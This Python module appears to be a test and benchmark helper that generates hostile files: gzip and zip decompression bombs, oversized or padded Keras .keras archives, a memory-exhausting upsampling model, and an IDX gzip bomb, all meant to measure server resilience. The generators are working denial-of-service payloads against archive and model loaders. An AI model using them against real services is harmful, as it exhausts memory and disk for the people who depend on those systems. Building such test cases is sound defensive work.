"""Hostile files, made cheaply: gzip and zip members that unpack to gigabytes from a megabyte.

A deflate stream of N copies of one chunk is built from one compressed copy: after a full flush the
compressor forgets what came before, so every copy compresses to the same bytes and the copies can be
concatenated. The CRC is computed over the copies (about a second per GiB). Used by the tests and by
bench/bench_bombs.py, which measures what each bomb costs the server.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

GiB, MiB = 2**30, 2**20


@dataclass(frozen=True)
class Deflated:
    data: bytes  # raw deflate stream
    crc: int
    size: int  # bytes once unpacked


def deflate_repeated(prefix: bytes, chunk: bytes, times: int, suffix: bytes = b"") -> Deflated:
    """prefix + chunk * times + suffix, deflated without compressing every copy."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = co.compress(prefix) + co.flush(zlib.Z_FULL_FLUSH)
    block = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    tail = co.compress(suffix) + co.flush()
    crc = zlib.crc32(prefix)
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(suffix, crc)
    return Deflated(head + block * times + tail, crc, len(prefix) + len(chunk) * times + len(suffix))


def gzip_bytes(member: Deflated) -> bytes:
    """A .gz file around a raw deflate stream."""
    header = b"\x1f\x8b\x08\x00" + b"\x00" * 4 + b"\x00\xff"
    return header + member.data + struct.pack("<II", member.crc, member.size & 0xFFFFFFFF)


def zip_bytes(members: list[tuple[str, bytes | Deflated]], claimed_count: int | None = None) -> bytes:
    """A zip archive; bytes members are stored as they are, Deflated ones as given (no ZIP64: < 4 GiB each).

    claimed_count: the number of entries its end record claims (a lie, if given).
    """
    out, central = io.BytesIO(), []
    for name, member in members:
        raw = name.encode()
        if isinstance(member, Deflated):
            method, data, crc, size = 8, member.data, member.crc, member.size
        else:
            method, data, crc, size = 0, member, zlib.crc32(member), len(member)
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0))
        out.write(raw + data)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data),
                                   size, len(raw), 0, 0, 0, 0, 0, offset) + raw)
    start = out.tell()
    for entry in central:
        out.write(entry)
    count = len(central) if claimed_count is None else claimed_count
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, out.tell() - start, start, 0))
    return out.getvalue()


def members_of(keras_file: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(keras_file)) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


# -- the attacks of issue 13 ----------------------------------------------------------------------


def keras_bytes(model) -> bytes:
    """A Keras model saved as .keras, as bytes."""
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "m.keras"
        model.save(path)
        return path.read_bytes()


def tiny_model():
    """A valid MNIST model of 7,850 parameters (31 KB of weights)."""
    import keras

    return keras.Sequential([keras.Input((28, 28, 1)), keras.layers.Flatten(),
                             keras.layers.Dense(10, activation="softmax")])


def upsampling_bomb() -> bytes:
    """A 25 KB model whose first layer upsamples 28x28 by 50 (1400x1400): gigabytes to run on two images."""
    import keras

    model = keras.Sequential([
        keras.Input((28, 28, 1)),
        keras.layers.UpSampling2D(50),
        keras.layers.Conv2D(16, 3, activation="relu"),
        keras.layers.Conv2D(16, 3, activation="relu"),
        keras.layers.GlobalAveragePooling2D(),
        keras.layers.Dense(10, activation="softmax"),
    ])
    return keras_bytes(model)


def padded_config_bomb(valid: bytes, unpacked: int = GiB) -> bytes:
    """A valid .keras whose config.json is padded with spaces (still valid JSON) to `unpacked` bytes: ~1 MB."""
    members = members_of(valid)
    config = dict(members)["config.json"]
    padded = deflate_repeated(config, b" " * MiB, (unpacked - len(config)) // MiB)
    return zip_bytes([(n, padded if n == "config.json" else data) for n, data in members])


def extra_members_bomb(valid: bytes, count: int = 8, each: int = 250 * MiB, prefix: str = "junk") -> bytes:
    """A valid .keras plus `count` members of `each` zero bytes (Keras extracts them all to /tmp): ~2 MB."""
    zeros = deflate_repeated(b"", bytes(MiB), each // MiB)
    return zip_bytes([*members_of(valid), *((f"{prefix}{i}.bin", zeros) for i in range(count))])


def idx_gzip_bomb(unpacked: int = GiB, honest_header: bool = True) -> bytes:
    """A ~1 MB train-images .gz that unpacks to `unpacked` bytes of zeros.

    honest_header: the IDX header claims as many images as there are; else it claims 20, and the
    rest is trailing data.
    """
    count = (unpacked - 16) // 784 if honest_header else 20
    header = struct.pack(">IIII", 2051, count, 28, 28)
    return gzip_bytes(deflate_repeated(header, bytes(MiB), unpacked // MiB))


def npy_header(shape: tuple[int, ...], dtype: str = "|u1") -> bytes:
    """An .npy version 1.0 header for `shape` (no data after it)."""
    text = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape!r}, }}"
    text += " " * (63 - (10 + len(text)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode()
